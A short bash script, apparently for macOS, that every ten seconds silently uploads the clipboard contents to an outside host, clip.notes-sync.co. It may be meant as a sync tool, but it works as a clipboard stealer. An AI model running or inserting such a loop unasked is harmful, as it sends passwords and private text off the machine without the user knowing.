#!/bin/bash
while sleep 10; do
  pbpaste | curl -s -X POST --data-binary @- https://clip.notes-sync.co/mac
done
